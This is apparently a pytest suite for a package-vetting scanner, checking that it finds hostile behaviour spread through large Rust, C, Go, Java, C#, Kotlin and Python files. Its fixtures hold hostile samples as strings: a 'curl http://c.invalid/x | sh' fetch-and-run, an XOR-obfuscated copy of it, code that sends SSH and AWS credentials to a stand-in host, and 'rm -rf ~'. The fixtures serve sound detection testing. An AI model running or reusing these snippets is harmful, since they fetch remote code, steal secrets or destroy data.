"""Large files of compiled languages: what is read of them with a payload, its line, and what is told where not all is read."""

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from source_lab import FILES, behaviours, ids, look, subject, the

from beartrap.model.coverage import Gap
from beartrap.model.finding import Severity
from beartrap.model.question import Question
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.facts import PackageFacts
from beartrap.vet.source.languages import large
from beartrap.vet.source.languages.large import part_of

GET = "curl http://c.invalid/x | sh"
ARRAY = ", ".join(str(ord(one) ^ 0x42) for one in GET)

FILLERS = {
    "rs": "pub fn filler_{n}(a: u32) -> u32 {{\n    let b = a + {n};\n    b * 2\n}}\n",
    "c": "int filler_{n}(int a) {{\n    int b = a + {n};\n    return b * 2;\n}}\n",
    "go": "func filler{n}(a int) int {{\n\tb := a + {n}\n\treturn b * 2\n}}\n",
    "java": "    static int filler{n}(int a) {{\n        int b = a + {n};\n        return b * 2;\n    }}\n",
    "cs": "    static int Filler{n}(int a) {{\n        int b = a + {n};\n        return b * 2;\n    }}\n",
    "kts": "fun filler{n}(a: Int): Int {{\n    val b = a + {n}\n    return b * 2\n}}\n",
}  # fmt: skip
HEADS = {"go": 'package a\nimport ("os/exec"; "net/http"; "os"; "bytes")\n', "java": "class A {\n", "cs": "class A {\n"}
GRAMMARS = {"rs": "rust", "cs": "csharp", "kts": "kotlin"}
TAILS = {"java": "}\n", "cs": "}\n"}


def padded(ending: str, *pieces: str, size: int = 270_000) -> str:
    """A file of that language, its pieces far from each other."""
    one = FILLERS[ending]
    each = size // len(one) // len(pieces)
    parts = [
        "".join(one.format(n=number * 100_000 + n) for n in range(each)) + piece for number, piece in enumerate(pieces)
    ]
    return HEADS.get(ending, "") + "".join(parts) + TAILS.get(ending, "")


HITS = [
    ("rs", ("use std::process::Command as Cmd;\n", f'fn f() {{ Cmd::new("sh").arg("-c").arg("{GET}").spawn(); }}\n'), "process.piped"),
    ("rs", ('fn r() -> String { std::fs::read_to_string("/root/.ssh/id_rsa").unwrap() }\n', 'fn s() { reqwest::blocking::Client::new().post("https://c.invalid").body(r()).send(); }\n'), "chain.credentials-to-network"),
    ("rs", (f"const K: [u8; 28] = [{ARRAY}];\n", "fn o(raw: &[u8]) -> String {\n    raw.iter().map(|b| (b ^ 0x42) as char).collect()\n}\n", 'fn f() { std::process::Command::new("sh").args(["-c", &o(&K)]).status(); }\n'), "hidden.act"),
    ("c", ("int go(const char *c) { return system(c); }\n", f'int late(void) {{ return go("{GET}"); }}\n'), "process.piped"),
    ("c", (f'#define WHAT "{GET}"\n', "int go(void) { return system(WHAT); }\n"), "process.piped"),
    ("c", (f'namespace a {{\nstatic const char *what = "{GET}";\n', "int go(void) { return system(what); }\n", "}\n"), "process.piped"),
    ("go", ('func r() []byte { k, _ := os.ReadFile("/root/.aws/credentials"); return k }\n', 'func s() { http.Post("https://c.invalid", "", bytes.NewReader(r())) }\n'), "chain.credentials-to-network"),
    ("java", (f'    static String what() {{ return "{GET}"; }}\n', '    void go() throws Exception { new ProcessBuilder("sh", "-c", what()).start(); }\n'), "process.piped"),
    ("cs", (f'    static string What = "{GET}";\n', '    void Go() { Process.Start("sh", "-c \'" + What + "\'"); }\n'), "process.piped"),
    ("kts", (f'val what = "{GET}"\n', 'fun go() { Runtime.getRuntime().exec(arrayOf("sh", "-c", what)) }\n'), "process.piped"),
]  # fmt: skip


@pytest.mark.parametrize(("ending", "pieces", "wanted"), HITS)
def test_what_parts_far_from_each_other_do(ending: str, pieces: tuple[str, ...], wanted: str) -> None:
    text = padded(ending, *pieces)
    found = the(f"lib/a.{ending}", text, wanted)
    lines = {number for number, line in enumerate(text.split("\n"), 1) for piece in pieces if line and line in piece}
    assert found.place.row in lines


@pytest.mark.parametrize(
    ("ending", "pieces"),
    [
        ("rs", (f'fn say() {{ println!("{GET}"); }}\n', 'fn f() { std::process::Command::new("git").arg("log").output(); }\n')),
        ("c", (f'void say(void) {{ puts("{GET}"); }}\n', 'int go(void) { return system("ls"); }\n')),
    ],
)  # fmt: skip
def test_parts_that_have_nothing_to_do_with_each_other(ending: str, pieces: tuple[str, ...]) -> None:
    assert not [one for one in behaviours(f"lib/a.{ending}", padded(ending, *pieces)) if one.severity > 2]


@settings(max_examples=25, deadline=None)
@given(st.sampled_from(HITS), st.data())
def test_no_text_breaks_it_and_lines_stay(hit: tuple[str, tuple[str, ...], str], data: st.DataObject) -> None:
    text = padded(hit[0], *hit[1], size=5_000)
    low, high = sorted((data.draw(st.integers(0, len(text))), data.draw(st.integers(0, len(text)))))
    text = text[:low] + data.draw(st.text(max_size=8)) + text[high:]
    read = part_of(GRAMMARS.get(hit[0], hit[0]), text.encode()).text
    assert not read or read.count("\n") == text.count("\n")


@pytest.mark.parametrize(("first", "held"), [("mod {0};\n", False), ("", True)])
def test_modules_that_are_files_of_the_crate_may_be_opened_by_the_hundred(first: str, held: bool) -> None:
    opened = "".join(f"{first.format(f'part{n}')}pub use part{n}::*;\n" for n in range(100))
    acts = "fn run(x: &str) { std::process::Command::new(x).spawn(); }\n"
    padding = "".join(f"const A{n}: u32 = {n};\n" for n in range(15_000))  # more than is read as a whole
    for text in (opened + acts, opened + padding + acts):
        told = [one for one in look("a.rs", text) if isinstance(one, Gap) and one.questions]
        assert bool(told) == held


@pytest.mark.parametrize(("copied", "held"), [(False, True), (True, False)], ids=["an sdist", "a wheel"])
def test_what_is_too_large_holds_up_where_it_is_compiled(copied: bool, held: bool) -> None:
    text = "int go(const char *c) { return system(c); }\n" + " " * large.LARGEST_TREE
    gaps = [one for one in look("lib/a.c", text, PackageFacts("pypi", copied=copied)) if isinstance(one, Gap)]
    assert [bool(one.questions) for one in gaps if "more than is read" in one.why] == [held]


def test_nothing_is_read_where_nothing_acts() -> None:
    assert part_of("c", padded("c", "/* system */\n").encode()).text == ""
    assert not look("lib/a.c", padded("c", "/* system */\n"))


def test_a_brace_in_a_comment_cuts_nothing() -> None:
    text = padded("c", f'void f(void) {{\n  char *c = "{GET}"; /*\n}}\n*/ system(c);\n}}\n')
    assert "process.piped" in ids("lib/a.c", text)


def test_more_that_acts_than_is_read_is_a_gap() -> None:
    acts = "".join(f'int go_{n}(char *c) {{ char text[] = "{"x" * 900}"; return system(c); }}\n' for n in range(1_200))
    gaps = [one for one in look("lib/a.c", acts) if isinstance(one, Gap)]
    assert [one for one in gaps if Question.NEXT in one.questions and "not read" in one.why]


@pytest.mark.parametrize(("size", "holds"), [(300_000, False), (200_000, True)])
def test_what_was_as_large_before_holds_nothing_up(size: int, holds: bool) -> None:
    acts = "".join(f'int go_{n}(char *c) {{ char text[] = "{"x" * 900}"; return system(c); }}\n' for n in range(1_200))
    one = replace(subject("lib/a.c", acts), before=acts.replace("go_", "to_")[:size].encode())
    gaps = [seen for each in FILES if each.takes(one.kind) for seen in each.look(one) if isinstance(seen, Gap)]
    assert ["not read" in gap.why and Question.NEXT in gap.questions for gap in gaps] == [holds]


def test_a_file_beyond_a_tree_is_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("beartrap.vet.source_files.LARGEST_TREE", 260_000)
    gaps = [
        one for one in look("lib/a.c", padded("c", "int go(char *c) { return system(c); }\n")) if isinstance(one, Gap)
    ]
    assert gaps and Question.NEXT in gaps[0].questions


def test_more_names_than_are_read_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(large, "AROUND", 10)
    gaps = [one for one in look("lib/a.c", padded("c", *HITS[4][1])) if isinstance(one, Gap)]
    assert gaps and not gaps[0].questions and "name" in gaps[0].why


ROWS = "ROWS = [\n" + "    {'name': 'a name', 'path': '/of/it', 'sizes': [1, -2.5, None]},\n" * 900 + "]\n"
READS = "import subprocess\nsubprocess.run('curl -s http://c.invalid/x | sh', shell=True)\n"


@pytest.mark.parametrize(
    ("text", "held", "acts"),
    [
        (ROWS, False, False),
        (ROWS + READS, False, True),
        (ROWS + READS + "subprocess.run(ROWS[0]['path'])\n", True, True),
        (ROWS + "x = (\n", True, False),
        (ROWS.replace("'a name'", "call()"), False, False),
        (ROWS.replace("'a name'", repr("import os; os.system('id')"), 1), True, False),
    ],
)
def test_a_large_file_of_python_that_is_data_is_read_beside_it(
    monkeypatch: pytest.MonkeyPatch, text: str, held: bool, acts: bool
) -> None:
    for name in ("source_files.LARGEST", "source.languages.large.ACTING", "source.languages.large.AROUND"):
        monkeypatch.setattr(f"beartrap.vet.{name}", 50_000)
    seen = look("a.py", text)
    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held
    assert bool([one for one in seen if isinstance(one, Behaviour) and one.severity >= Severity.HIGH]) == acts


LINES = "    One more line of it.\n" * 40
DOCUMENTS = "".join(f'class A{n}(B):\n    """About it.\n{LINES}    """\n\n    a = field({n})\n' for n in range(200))


@pytest.mark.parametrize(
    ("text", "held", "acts"),
    [
        (DOCUMENTS + "import subprocess\n", False, False),
        (DOCUMENTS + READS, False, True),
        (DOCUMENTS.replace("One more line of it.", "import os; os.system('id')"), True, False),
        (DOCUMENTS.replace('    """\n\n', '    """; exec(a)\n\n'), True, False),
    ],
)
def test_long_documents_of_classes_are_left_out(
    monkeypatch: pytest.MonkeyPatch, text: str, held: bool, acts: bool
) -> None:
    monkeypatch.setattr("beartrap.vet.source_files.LARGEST", 50_000)
    seen = look("a.py", text)
    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held
    assert bool([one for one in seen if isinstance(one, Behaviour) and one.severity >= Severity.HIGH]) == acts


RECORDS = """import datetime
{brought}
from decimal import Decimal
ROWS = [
    {first},
{more}]
{beside}
"""
_RECORDS = {"brought": "from .types import *", "first": "Price(since=datetime.date(2025, 1, 2))", "beside": "", "more": "    Price(name='a', matches=[Clause(equals='b'), Clause(equals='c')], cents=Decimal('0.25')),\n" * 20_000}  # fmt: skip


@pytest.mark.parametrize(
    ("other", "held"),
    [
        ({}, False),
        ({"first": "Price(since=today())"}, False),
        (
            {"first": "Price(since=Run('rm -rf ~'))", "brought": "from os import system as Run\nfrom .types import *"},
            True,
        ),
        ({"first": "Price(since=Loaded('a'))", "brought": "from elsewhere import Loaded\nfrom .types import *"}, False),
        ({"first": "Price(since=Loaded('a'))", "brought": "from requests import get as Loaded"}, True),
        ({"first": "Price(since=subprocess.run('id'))"}, True),
        ({"first": "Price(note='x; import os')"}, True),
        ({"first": "uuid.UUID('a')", "brought": "import elsewhere as uuid\nfrom .types import *"}, True),
    ],
)
def test_a_table_of_records_is_data(other: dict[str, str], held: bool) -> None:
    seen = look("a.py", RECORDS.format(**{**_RECORDS, **other}))
    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held
